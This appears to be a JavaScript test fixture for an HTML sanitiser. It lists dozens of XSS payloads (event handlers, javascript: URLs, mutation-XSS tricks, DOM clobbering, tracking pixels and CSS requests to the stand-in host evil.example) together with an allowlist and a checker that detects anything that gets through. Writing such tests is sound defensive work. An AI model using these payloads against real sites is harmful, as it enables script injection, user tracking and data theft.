// Hostile texts of cards, models and plugins. Each would set `window.hacked`, request evil.example, or leave an element
// that is not allowed. Also the elements and styles that are allowed.
const RUN = "window.hacked=1";
const EVIL = "https://evil.example";

/** Deeply nested, and never closed. */
const deep = (tag, times) => `<${tag}>`.repeat(times);

export const ATTACKS = [
  // Event handlers
  `<img src=x onerror="${RUN}">`,
  `<b onmouseover="${RUN}" onclick=${RUN} onfocus=${RUN} tabindex=0 autofocus>x</b>`,
  `<details open ontoggle=${RUN}><summary onclick=${RUN}>x</summary>y</details>`,
  `<p onpointerenter=${RUN} onanimationstart=${RUN} style="animation:blink 1s">x</p>`,
  `<audio src=${EVIL}/a.mp3 autoplay onloadstart=${RUN}></audio><video src=${EVIL}/v.mp4 poster=${EVIL}/p.png onerror=${RUN}></video>`,
  // URLs that run code
  `[a](javascript:${RUN}) [b](JaVaScRiPt&colon;${RUN}) [c](java\tscript:${RUN}) [d](\u0001javascript:${RUN}) <javascript:${RUN}>`,
  `<a href="jav&#x09;ascript:${RUN}">a</a><a href=" javascript:${RUN}">b</a><a href="vbscript:x">c</a><a href="data:text/html,<script>${RUN}</script>">d</a>`,
  `[x]: javascript:${RUN}\n\n[x] [y][x] ![z][x]`,
  `<a href=https://example.org ping=${EVIL}/ping target=_top>a</a><map name=m><area href=javascript:${RUN} shape=default></map>`,
  // Texts that parse differently the second time
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.hacked=1</script>"></iframe></foreignObject></svg>`,
  `<xmp><img src=x onerror=${RUN}></xmp><plaintext><img src=x onerror=${RUN}>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea><title><img src=x onerror=${RUN}></title>`,
  // Scripts, frames, objects
  `<script>${RUN}</script><script src=${EVIL}/x.js></script><script type=module>${RUN}</script>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><iframe src=${EVIL}></iframe><frameset><frame src=${EVIL}></frameset>`,
  `<object data=${EVIL}/x.swf type=text/html></object><embed src=${EVIL}/x><applet code=x></applet><portal src=${EVIL}></portal>`,
  `<svg onload=${RUN}><script>${RUN}</script><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${RUN} /></svg>#x"/><image href=${EVIL}/i.png /></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${RUN} /><text x=20 y=20>x</text></a><set attributeName=onmouseover to=${RUN} /></svg>`,
  // Elements of the page
  `<form id=app action=${EVIL} method=post><input name=body value=x><input name=attributes><button formaction=javascript:${RUN}>send</button></form>`,
  `<a id=cookie name=cookie href=https://example.org>x</a><img name=getElementById><form name=body><p id=app class=topbar>x</p><p id=trustedTypes></p>`,
  `<base href=${EVIL}/ target=_top><meta http-equiv=refresh content="0;url=${EVIL}"><link rel=stylesheet href=${EVIL}/x.css><link rel=prefetch href=${EVIL}/p>`,
  `<meta http-equiv=Content-Security-Policy content="default-src *"><link rel=manifest href=${EVIL}/m><link rel=dns-prefetch href=${EVIL}>`,
  `<template><b onclick=${RUN}></b><script>${RUN}</script></template><template shadowrootmode=open><img src=${EVIL}/s.png></template><slot name=x>y</slot>`,
  `<dialog open><p>Sign in</p></dialog><p popover=manual id=pop>x</p><button popovertarget=pop command=show-popover commandfor=pop>x</button><x-own is=tree-canvas>x</x-own>`,
  // Tracking pictures
  `![tracker](${EVIL}/pixel.png) <img src=${EVIL}/a.png srcset="${EVIL}/b.png 2x" lowsrc=${EVIL}/c.png dynsrc=${EVIL}/d.png>`,
  `<picture><source srcset=${EVIL}/s.webp><img src="data:image/svg+xml,<svg onload='${RUN}'/>"></picture><input type=image src=${EVIL}/i.png>`,
  `<body background=${EVIL}/b.png><table background=${EVIL}/t.png bgcolor=red><tr><td background=${EVIL}/c.png>x</td></tr></table>`,
  `<style>@import "${EVIL}/i.css"; .prose{background:url(${EVIL}/b.png)} *{display:none!important}</style>x`,
  `<p style="background:url(${EVIL}/a.png);list-style-image:url('${EVIL}/l.png');cursor:url(${EVIL}/c.cur),auto;border-image:url(${EVIL}/d.png) 1">x</p>`,
  `<p style="background-image:image-set('${EVIL}/a.png' 1x,url(${EVIL}/b.png) 2x);content:url(${EVIL}/c.png);mask:u\\72l(${EVIL}/m.png);filter:url(${EVIL}/f#x)">x</p>`,
  `<p style="--x:url(${EVIL}/v.png);background:var(--x);background:-webkit-cross-fade(url(${EVIL}/1.png),url(${EVIL}/2.png),50%)">x</p>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg==" alt="<b onclick=${RUN}>x</b>"> ![<i onclick=${RUN}>x](${EVIL}/"onerror="${RUN}) <img data-picture=0 data-outside=${EVIL} src=//evil.example/p.png style="content:url(${EVIL}/c.png)">`,
  // Styles that leave the message
  `<p style="position:fixed;inset:0;z-index:2147483647;width:100vw;height:100vh;background:red;margin:-500px;transform:scale(99)" class="bar topbar" onclick=${RUN}>click</p>`,
  `<p style="width:expression(${RUN});behavior:url(${EVIL}/x.htc);-moz-binding:url(${EVIL}/x.xml#x);color:red;}</style><script>${RUN}</script>">x</p>`,
  `<p style="margin:-9999px;padding:9999px;font-size:9999px;letter-spacing:-99px;text-shadow:0 0 9999px red;border:9999px solid red;height:99999px">x</p>`,
  `<p style="background:var(--page);color:var(--accent);--page:red;animation:found 1s infinite;transition:all 9s;pointer-events:none;user-select:none">x</p>`,
  `<div style="background:red url(${EVIL}/1.png);background-image:linear-gradient(red,blue),url(${EVIL}/2.png);border-image-source:url(${EVIL}/3.png)">x</div>`,
  `<div style='@import "${EVIL}/i.css"; color:red; background-image: image-set("${EVIL}/4.png" 1x); list-style: url(${EVIL}/5.png); background-image: src("${EVIL}/6.png")'>x</div>`,
  `<span style="position:fixed!important;top:0;left:0;z-index:9;transform:translate(-50vw);float:left;inset:0;display:contents">x</span><font color="red;position:fixed" style="position:sticky">x</font>`,
  `<div style="margin:-50vw -50vw calc(-1 * 900px);margin-inline:-99em;text-indent:-999em;padding:calc(1px * 1e9);width:calc(100vw * 9);min-width:9999px;max-width:none;height:calc(99999vh)">x</div>`,
  `<div style="width:expression(${RUN});height:e\\78pression(${RUN});color:var(--accent,red);background:var(--x,url(${EVIL}/7.png));--y:red;width:env(x, 9999px);color:attr(data-x type(<color>),red)">x</div>`,
  `${`<div style="font-size:9em;line-height:99;padding:99rem;border:99rem solid red;letter-spacing:9em">`.repeat(8)}x`,
  `<i style="opacity:0">a</i><b style="color:transparent;background:white">b</b><u style="color:red!important;background:red!important;text-shadow:0 0 9999px red,0 0 1e9em blue" data-look=0 data-ground=dark>c</u>`,
  `<p data-look=0 data-look=1 style="${"color:red;".repeat(900)}">x</p><div style="background:/**/u/**/rl(${EVIL}/8.png);background:URL(${EVIL}/9.png);filter:url(${EVIL}/f.svg#a);clip-path:url(${EVIL}/c.svg#a)">x</div>`,
  // Texts that look different from what they are
  `\u202e<b>txt.exe</b>\u202c \u2066<i>x\u2069 \u200b<scr\u0000ipt>${RUN}</scr\u0000ipt> \uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<<script>${RUN}//<</script> <img/src=x/onerror=${RUN}> <svg/onload=${RUN}> <scr<script>ipt>${RUN}</script> <!--><img src=x onerror=${RUN}>-->`,
  `${deep("div", 600)}<img src=x onerror=${RUN}>`,
  `${"> ".repeat(60)}${"- ".repeat(60)}${deep("b", 400)}${"[".repeat(300)}x${"](javascript:x)".repeat(50)}`,
  `"<b onmouseover=${RUN}>said</b>" “<img src=${EVIL}/q.png onerror=${RUN}>” «<script>${RUN}</script>» 「<svg onload=${RUN}>」`,
];

/** Elements that a message may have, and their attributes. */
export const ALLOWED = {
  elements:
    "p br hr em strong b i u small del s sub sup q mark font center blockquote ul ol li h1 h2 h3 h4 h5 h6 code pre kbd div span details summary " +
    "table caption colgroup col thead tbody tfoot tr th td a ruby rt rp img",
  attributes:
    "href title start align lang dir target rel open colspan rowspan style data-ground data-ink data-outside src alt",
  looks:
    /^(color|background-(color|image)|border-[a-z-]+-(color|style|width|radius)|(padding|margin)-[a-z-]+|width|max-width|height|text-(align|transform|shadow|decoration-(line|style|color))|box-shadow|font-(weight|style|size)|letter-spacing|line-height|opacity|display|flex-(grow|shrink|basis|direction|wrap)|justify-content|align-(items|self|content)|(row|column)-gap)$/
      .source,
};

/**
 * Reports of the browser that the sanitiser itself causes: it must parse what it removes, and it empties a
 * truncated script before it removes it. Nothing of it runs or is requested.
 */
export const PARSER_REPORTS =
  /^(style-src-elem|style-src-attr|script-src-attr|base-uri) |^require-trusted-types-for sanitising HTMLScriptElement text\|/;

/**
 * Checks a whole page, inside the page.
 * @param {{elements: string, attributes: string, looks: string}} may
 */
export function findUnwanted(may) {
  const wrong = [];
  const say = (what, element) => wrong.push(`${what}: ${element.outerHTML.slice(0, 160)}`);
  const [elements, attributes] = [new Set(may.elements.split(" ")), new Set(may.attributes.split(" "))];
  const never =
    "script, iframe, frame, frameset, object, embed, base, meta, link, style, math, template, video, audio, map, area, xmp, portal, noscript, foreignObject, image, animate, set";
  for (const element of document.body.querySelectorAll(never)) say("element", element);
  for (const element of document.body.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name)) say("handler", element);
      // A link requests nothing until it is pressed. Its target is checked below.
      if (name === "href" && element.localName === "a" && /^https?:/.test(value)) continue;
      if (
        /^(href|src|srcset|action|formaction|poster|background|data|xlink:href|ping|style)$/i.test(name) &&
        /javascript:|vbscript:|evil\.example/i.test(value)
      )
        say("address", element);
    }
  }
  for (const element of document.querySelectorAll(".prose *")) {
    // The page's own button in place of a remote picture.
    if (
      element.matches("span[data-outside] > button[type=button]:only-child") &&
      element.attributes.length === 1 &&
      element.children.length === 0
    )
      continue;
    if (!elements.has(element.localName) || element.namespaceURI !== "http://www.w3.org/1999/xhtml")
      say("not allowed", element);
    const others = element.getAttributeNames().filter((name) => !attributes.has(name));
    if (others.length > 0) say(`attribute ${others}`, element);
    if (
      element.hasAttribute("src") &&
      !(element.localName === "img" && /^data:image\/(png|jpeg|webp|gif);base64,/.test(element.getAttribute("src")))
    )
      say("source", element);
    const { style } = /** @type {HTMLElement} */ (element);
    for (const name of style) {
      const value = style.getPropertyValue(name);
      if (
        !new RegExp(may.looks).test(name) ||
        style.getPropertyPriority(name) ||
        /["'\\]|(url|var|env|attr|image-set|image|cross-fade|element|paint|expression)\(/i.test(value)
      )
        say(`look ${name}: ${value}`, element);
    }
    const [box, message] = [element.getBoundingClientRect(), element.closest(".prose").getBoundingClientRect()];
    if (
      element.closest("[style]") &&
      (box.left < message.left - 40 || box.height > 4_000) &&
      !element.closest("ul, ol, pre, table")
    )
      say("out of its message", element);
    if (/fixed|absolute|sticky|relative/.test(getComputedStyle(element).position)) say("position", element);
    if (element.localName === "a" && !/^$|^https?:\/\//.test(element.getAttribute("href") ?? "")) say("link", element);
  }
  if (/** @type {any} */ (window).hacked !== undefined) wrong.push("it ran");
  if (
    typeof document.cookie !== "string" ||
    typeof document.getElementById !== "function" ||
    !(document.body instanceof HTMLBodyElement)
  )
    wrong.push("the document is another one");
  if (document.querySelectorAll("#app").length !== 1 || !document.querySelector("#app > .app"))
    wrong.push("the page is another one");
  return wrong;
}
